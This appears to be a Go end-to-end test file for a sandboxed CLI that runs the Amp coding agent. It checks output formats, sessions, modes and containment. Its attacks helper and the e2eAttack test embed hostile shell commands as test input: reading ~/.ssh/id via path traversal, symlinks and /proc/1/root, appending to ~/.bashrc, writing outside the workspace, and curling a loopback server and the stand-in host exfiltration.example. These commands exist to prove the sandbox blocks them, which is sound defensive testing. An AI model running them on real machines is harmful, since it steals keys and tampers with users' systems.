package cmd

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"

	"github.com/sesame-cli/sesame/pkg/amp/amptest"
	"github.com/sesame-cli/sesame/pkg/config/fault"
	"github.com/sesame-cli/sesame/pkg/sandbox"
)

// echo is what the model says to a message without steps.
func (p *project) echo(mode, text string, messages string) string {
	return "ECHO[" + p.mode(mode) + "]: " + text + " (" + messages + " messages)"
}

func e2eText(p *project) {
	c := p.ok("run", "hello", "there")
	if want := p.echo("smart", "hello there", "1") + "\n"; c.out != want {
		p.t.Errorf("stdout %q, want %q", c.out, want)
	}
	want := ""
	if p.tier == sandbox.Landlock { // weaker is never silent
		want = "sesame: sandbox tier landlock: weaker than namespaces in some ways, which `sesame sandbox --explain` lists\n"
	}
	if c.err != want {
		p.t.Errorf("stderr %q", c.err)
	}
	if ids := p.sessionsHere(); len(ids) != 1 {
		p.t.Errorf("sessions %q", ids)
	}
	for _, name := range []string{"session.json", "turns/1/events.jsonl", "turns/1/stderr.log"} {
		path := p.state("sessions", p.sessionsHere()[0], name)
		if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
			p.t.Errorf("%s: %v, %v", path, info, err)
		}
	}
	// Amp must not take it for an option either.
	if got, want := p.ok("run", "--", "--help", "-x").out, p.echo("smart", "--help -x", "1")+"\n"; got != want {
		p.t.Errorf("stdout %q, want %q", got, want)
	}
}

func e2ePrompts(p *project) {
	put(p.t, p.path("task.md"), "\ufefffrom a file\n")
	for _, test := range []struct {
		stdin string
		args  []string
		want  string
	}{
		{args: []string{"--prompt-file", "task.md"}, want: "from a file"},
		{stdin: "from stdin\n", want: "from stdin"},
		{stdin: "the diff\n", args: []string{"review", "this", "-"}, want: "review this\n\nthe diff"},
	} {
		args := append([]string{"run"}, test.args...)
		c := p.start
		if test.stdin != "" {
			c = func(args ...string) *call { return p.startWith(strings.NewReader(test.stdin), args...) }
		}
		if got, want := c(args...).wait().want(0).out, p.echo("smart", test.want, "1")+"\n"; got != want {
			p.t.Errorf("%q: stdout %q, want %q", args, got, want)
		}
	}
}

func e2eJSON(p *project) {
	c := p.ok("run", "-o", "json", "-q", "hello")
	r := c.report()
	ids := p.sessionsHere()
	if len(ids) != 1 || r.SessionID != ids[0] || !strings.HasPrefix(r.ThreadID, "T-") || r.Mode != "smart" || r.AmpMode != p.mode("smart") ||
		r.Workspace != p.dir || r.Status != StatusSuccess || r.Result != p.echo("smart", "hello", "1") || r.Error != nil || r.NumTurns != 1 || r.DurationMS < 1 {
		p.t.Errorf("got %+v, sessions %q", r, ids)
	}
	if r.Sandbox.Tier != p.tier || r.Sandbox.Denials == nil || len(r.Sandbox.Denials) != 0 {
		p.t.Errorf("sandbox %+v", r.Sandbox)
	}
	if usage, ok := r.Usage.(map[string]any); !ok || usage["input_tokens"] != 100.0 {
		p.t.Errorf("usage %v", r.Usage)
	}
	if p.build.Version != "latest" && r.AmpVersion != p.build.Version || r.AmpVersion == "" {
		p.t.Errorf("version %q", r.AmpVersion)
	}
	wantIn(p.t, p.read(r.Logs.Events), `"type":"result"`, r.Result)
	if _, err := os.Stat(r.Logs.Stderr); err != nil {
		p.t.Error(err)
	}
	if c.err != "" {
		p.t.Errorf("stderr %q", c.err)
	}
}

func e2eStreamJSON(p *project) {
	c := p.ok("run", "-o", "stream-json", "RUN:echo in the stream")
	lines := strings.SplitAfter(strings.TrimSuffix(c.out, "\n"), "\n")
	last := lines[len(lines)-1]
	var types []string
	for _, line := range lines {
		var l struct{ Type, Subtype string }
		if err := json.Unmarshal([]byte(line), &l); err != nil {
			p.t.Fatalf("%q: %v", line, err)
		}
		types = append(types, l.Type)
	}
	for _, want := range []string{"system", "user", "assistant", "result", "sesame"} {
		if !slices.Contains(types, want) {
			p.t.Errorf("no %q among %q", want, types)
		}
	}
	rest, ok := strings.CutPrefix(last, `{"type":"sesame","subtype":"report",`)
	if !ok || slices.Index(types, "sesame") != len(types)-1 {
		p.t.Fatalf("types %q, the last line is %s", types, last)
	}
	r := decodeReport(p.t, "{"+rest)
	if r.Status != StatusSuccess || r.Result != "TOOL SAID: in the stream" {
		p.t.Errorf("got %+v", r)
	}
	// Amp's own lines, unchanged.
	if got := strings.Join(lines[:len(lines)-1], ""); got != p.read(r.Logs.Events) {
		p.t.Errorf("stdout has\n%s\nthe log has\n%s", got, p.read(r.Logs.Events))
	}
}

func e2eTool(p *project) {
	c := p.ok("run", "Please:\nRUN:echo made by amp > made-here && echo did it\nRUN:sh -c 'exit 3'")
	if c.out != "TOOL SAID: did it\nTOOL SAID:  (exit code 3)\n" {
		p.t.Errorf("stdout %q", c.out)
	}
	if got := p.read(p.path("made-here")); got != "made by amp\n" {
		p.t.Errorf("the file has %q", got)
	}
	// A line for each call, with its name and main argument.
	wantIn(p.t, c.err, "  echo made by amp > made-here && echo did it\n", "  sh -c 'exit 3'\n")
	if n := strings.Count(c.err, "tool: "); n != 2 {
		p.t.Errorf("%d tool lines in\n%s", n, c.err)
	}
}

// attacks tries to change files of the host, to read a secret and to reach the listener.
func (p *project) attacks(listener string) string {
	return strings.Join([]string{
		"RUN:echo changed > '" + p.home + "/notes'; echo changed > ~/new; echo changed >> ~/.bashrc; echo home done",
		"RUN:echo changed > '" + p.outside + "/notes'; echo changed > '" + p.outside + "/new'; echo outside done",
		"RUN:cat ~/.ssh/id '" + p.home + "/.ssh/id' README/../../../.ssh/id /proc/1/root'" + p.home + "'/.ssh/id; ln -s ~/.ssh/id link && cat link; rm -f link; echo secret done",
		"RUN:curl -sS -m 5 " + listener + " && echo REACHED; echo network done",
	}, "\n")
}

// bystander is a server on the host's loopback that no turn may reach; it counts who does.
func (p *project) bystander() (url string, hits *atomic.Int64) {
	hits = new(atomic.Int64)
	s := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	p.t.Cleanup(s.Close)
	return s.URL + "/", hits
}

func e2eAttack(p *project) {
	url, hits := p.bystander()
	c := p.ok("run", "-o", "json", p.attacks(url)+"\nRUN:curl -sS -m 5 http://exfiltration.example/; curl -sS -m 5 http://exfiltration.example/; echo name done")
	r := c.report()
	wantIn(p.t, r.Result, "home done", "outside done", "secret done", "network done", "name done")
	for _, file := range []string{p.home + "/notes", p.outside + "/notes"} {
		if got := p.read(file); got != "as it was\n" {
			p.t.Errorf("%s has %q", file, got)
		}
	}
	for _, file := range []string{p.home + "/new", p.home + "/.bashrc", p.outside + "/new"} {
		if _, err := os.Lstat(file); err == nil {
			p.t.Errorf("%s was made on the host", file)
		}
	}
	if strings.Contains(c.out+c.err, secret) || strings.Contains(p.sent(), secret) {
		p.t.Errorf("the secret got out: %s\n%s", c.out, c.err)
	}
	if !strings.Contains(p.sent(), "secret done") {
		p.t.Error("the requests do not tell what the tools said: the secret would not be found there")
	}
	if hits.Load() > 0 || strings.Contains(r.Result, "REACHED") {
		p.t.Error("a server on the host's loopback was reached")
	}
	// Refused, and reported with what would allow it.
	if len(r.Sandbox.Denials) != 1 || r.Sandbox.Denials[0].Kind != "network" ||
		!strings.HasPrefix(r.Sandbox.Denials[0].Target, "exfiltration.example") || r.Sandbox.Denials[0].Count < 2 {
		p.t.Errorf("denials %+v", r.Sandbox.Denials)
	}
	wantIn(p.t, c.err, "sesame: sandbox refused network to exfiltration.example", "--allow-host exfiltration.example")
}

// The same attacks succeed where there is no sandbox: that they fail is the sandbox's doing.
func e2eNoSandbox(p *project) {
	home := scratchIn(p.t, filepath.Dir(filepath.Dir(p.home)))
	outside := filepath.Join(home, "outside")
	put(p.t, filepath.Join(home, ".ssh", "id"), "OTHER-SECRET\n")
	put(p.t, filepath.Join(outside, "notes"), "as it was\n")
	p.env["HOME"] = home
	m := *p.machine
	m.home, m.outside = home, outside
	p.machine, p.dir = &m, filepath.Join(home, "src", "p")
	put(p.t, p.path("README"), "a project\n")
	url, hits := p.bystander()
	c := p.ok("run", "-o", "json", "--sandbox", "off", p.attacks(url))
	r := c.report()
	wantIn(p.t, r.Result, "OTHER-SECRET", "REACHED")
	for _, file := range []string{home + "/notes", home + "/new", outside + "/notes"} {
		if got := p.read(file); got != "changed\n" {
			p.t.Errorf("%s has %q", file, got)
		}
	}
	if hits.Load() != 1 || r.Sandbox.Tier != sandbox.Off {
		p.t.Errorf("%d hits, sandbox %+v", hits.Load(), r.Sandbox)
	}
}

func e2eAllowedHost(p *project) {
	url, hits := p.bystander()
	host := strings.TrimSuffix(strings.TrimPrefix(url, "http://"), "/")
	c := p.ok("run", "-o", "json", "--allow-host", host, "RUN:curl -sS -m 5 "+url+" && echo REACHED")
	if r := c.report(); hits.Load() != 1 || !strings.Contains(r.Result, "REACHED") || len(r.Sandbox.Denials) != 0 {
		p.t.Errorf("%d hits, %q, %+v", hits.Load(), r.Result, r.Sandbox)
	}
}

// What a turn writes in the home is there in the next one.
func e2eHomeLasts(p *project) {
	p.ok("run", "RUN:echo kept > ~/kept-"+filepath.Base(p.dir))
	c := p.ok("continue", "RUN:cat ~/kept-"+filepath.Base(p.dir))
	if c.out != "TOOL SAID: kept\n" {
		p.t.Errorf("stdout %q", c.out)
	}
	if _, err := os.Lstat(filepath.Join(p.home, "kept-"+filepath.Base(p.dir))); err == nil {
		p.t.Error("it reached the host")
	}
}

// plain tells whether the build gives no JSON stream for a first turn in a mode other than smart.
func (p *project) plain() bool { return p.build.Version == amptest.Feb10JS }

func e2eRush(p *project) {
	first := p.ok("run", "-o", "json", "-m", "rush", "be quick").report()
	for tries := 5; p.plain() && first.ThreadID == "" && tries > 0; tries-- { // on a busy machine that build may end before it has noted its thread
		p.t.Log("the build did not note its thread")
		first = p.ok("run", "-o", "json", "-m", "rush", "be quick").report()
	}
	if first.Mode != "rush" || first.AmpMode != p.mode("rush") || first.Result != p.echo("rush", "be quick", "1") || !strings.HasPrefix(first.ThreadID, "T-") {
		p.t.Errorf("got %+v", first)
	}
	if events := p.read(first.Logs.Events); strings.Contains(events, "plain_turn") != p.plain() {
		p.t.Errorf("events: %s", events)
	}
	// Also where the thread's id comes from the plain turn.
	second := p.ok("continue", "-o", "json", "and again").report()
	if second.ThreadID != first.ThreadID || second.SessionID != first.SessionID || second.Mode != "rush" {
		p.t.Errorf("got %+v", second)
	}
	p.wantCarriedOn(second.Result, "rush", "and again", 3)
	// With the JavaScript builds a thread keeps its mode; then that is what is said.
	c := p.ok("continue", "-q", "-o", "json", "-m", "smart", "in another")
	mode, warned := "rush", strings.Contains(c.err, "a session keeps its mode: this turn is rush, not smart")
	if p.build.Native {
		mode = "smart"
	}
	r := c.report()
	if r.Mode != mode || r.AmpMode != p.mode(mode) || warned == p.build.Native {
		p.t.Errorf("got %+v, %q", r, c.err)
	}
	p.wantCarriedOn(r.Result, mode, "in another", 5)
}

// wantCarriedOn checks that the answer belongs to the given number of messages of its thread.
// On a busy machine the build of February 10 may end before the service has its last answer: then that one is missing.
func (p *project) wantCarriedOn(got, mode, text string, messages int) {
	p.t.Helper()
	if p.plain() && got == p.echo(mode, text, strconv.Itoa(messages-1)) {
		p.t.Log("the build lost its last answer")
		return
	}
	if want := p.echo(mode, text, strconv.Itoa(messages)); got != want {
		p.t.Errorf("the thread was not carried on: %q, want %q", got, want)
	}
}

func e2eDeep(p *project) {
	c := p.ok("run", "-m", "deep", "RUN:echo deeply > made-deep && echo done")
	if c.out != "TOOL SAID: done\n" || p.read(p.path("made-deep")) != "deeply\n" {
		p.t.Errorf("stdout %q", c.out)
	}
	if p.build.Native {
		wantIn(p.t, c.err, "has no mode deep: using high")
	}
	c = p.ok("continue", "who is there?")
	if !strings.HasPrefix(c.out, "ECHO["+p.mode("deep")+"]: who is there? (") || strings.Contains(c.out, "(1 messages)") {
		p.t.Errorf("stdout %q", c.out)
	}
	asked := slices.ContainsFunc(p.service.Requests(), func(r amptest.Request) bool { return r.Path == "/api/provider/openai/v1/responses" })
	if asked == p.build.Native {
		p.t.Errorf("OpenAI asked by Amp itself: %t", asked)
	}
}

func e2eModesRefused(p *project) {
	r := p.sesame("run", "-o", "json", "-m", "free", "hello").want(2).failed(StatusError, fault.ModeUnavailable, "mode free is not available")
	wantIn(p.t, r.Error.Hint, "sesame modes")
	if p.build.Native {
		// These leave it to the service, and this service knows any.
		c := p.ok("run", "-m", "mine", "hello")
		wantIn(p.t, c.err, "does not name a mode mine")
		return
	}
	before := p.sessionsHere()
	r = p.sesame("run", "-o", "json", "-m", "nonsense", "hello").want(2).failed(StatusError, fault.ModeUnavailable, "mode nonsense is not available")
	wantIn(p.t, r.Error.Hint, "rush")
	if after := p.sessionsHere(); len(after) != len(before) {
		p.t.Errorf("a session was begun: %q", after)
	}
}

func e2eContinue(p *project) {
	first := p.ok("run", "-o", "json", "the first").report()
	other := p.ok("run", "-o", "json", "another").report()
	if other.SessionID == first.SessionID || other.ThreadID == first.ThreadID {
		p.t.Errorf("the new session is %+v", other)
	}
	// The newest, unless one is named.
	second := p.ok("continue", "-o", "json", "the second").report()
	if second.SessionID != other.SessionID || second.ThreadID != other.ThreadID {
		p.t.Errorf("got %+v", second)
	}
	p.wantCarriedOn(second.Result, "smart", "the second", 3)
	// By its end or its beginning, from wherever.
	tail := first.SessionID[strings.LastIndex(first.SessionID, "-")+1:]
	third := p.ok("continue", "-o", "json", "--session", tail, "the third").report()
	if third.SessionID != first.SessionID {
		p.t.Errorf("got %+v", third)
	}
	p.wantCarriedOn(third.Result, "smart", "the third", 3)
	dir := p.dir
	p.dir = p.home
	fourth := p.ok("continue", "-o", "json", "--session", first.SessionID[:len(first.SessionID)-1], "RUN:pwd > where").report()
	p.dir = dir
	if fourth.SessionID != first.SessionID || fourth.Workspace != dir || p.read(p.path("where")) != dir+"\n" {
		p.t.Errorf("got %+v", fourth)
	}
	wantIn(p.t, p.ok("sessions", "show", first.SessionID, "--json").out, first.ThreadID)
	// There the session does not belong.
	elsewhere := p.path("elsewhere")
	if err := os.Mkdir(elsewhere, 0o755); err != nil {
		p.t.Fatal(err)
	}
	p.sesame("continue", "-o", "json", "-C", elsewhere, "x").want(8).failed(StatusError, fault.SessionNotFound, "there is no session of "+elsewhere)
	p.sesame("continue", "-o", "json", "-C", elsewhere, "--session", first.SessionID, "x").want(2).failed(StatusError, fault.Usage, "belongs to the workspace "+dir)
}

func e2eOptions(p *project) {
	c := p.ok("run", "-q", "-m", "smart", "-O", "last.txt", "RUN:curl -s -m 5 http://refused.example; echo to a file")
	if c.err != "" || c.out != "TOOL SAID: to a file\n" || p.read(p.path("last.txt")) != c.out {
		p.t.Errorf("stdout %q, stderr %q, file %q", c.out, c.err, p.read(p.path("last.txt")))
	}
	c = p.ok("run", "--show-thinking", "THINK:long and hard")
	if c.out != "THOUGHT: long and hard\n" || c.err != "thinking: long and hard\n" {
		p.t.Errorf("stdout %q, stderr %q", c.out, c.err)
	}
	labelled := func(r amptest.Request) bool {
		return strings.HasSuffix(r.Internal(), "ThreadLabels") && strings.Contains(string(r.Body), "nightly") && strings.Contains(string(r.Body), "ci")
	}
	p.sesame("run", "--label", "nightly", "--label", "ci", "labelled")
	for tries := 5; p.plain() && !slices.ContainsFunc(p.service.Requests(), labelled) && tries > 0; tries-- { // on a busy machine that build may end before it has sent them
		p.t.Log("the build sent no labels")
		p.sesame("run", "--label", "nightly", "--label", "ci", "labelled")
	}
	if !slices.ContainsFunc(p.service.Requests(), labelled) {
		p.t.Error("the thread got no labels")
	}
	put(p.t, p.path(".sesame.yaml"), "mode: rush\noutput: json\n")
	if r := p.ok("run", "by the workspace's file").report(); r.Mode != "rush" || r.AmpMode != p.mode("rush") {
		p.t.Errorf("got %+v", r)
	}
}
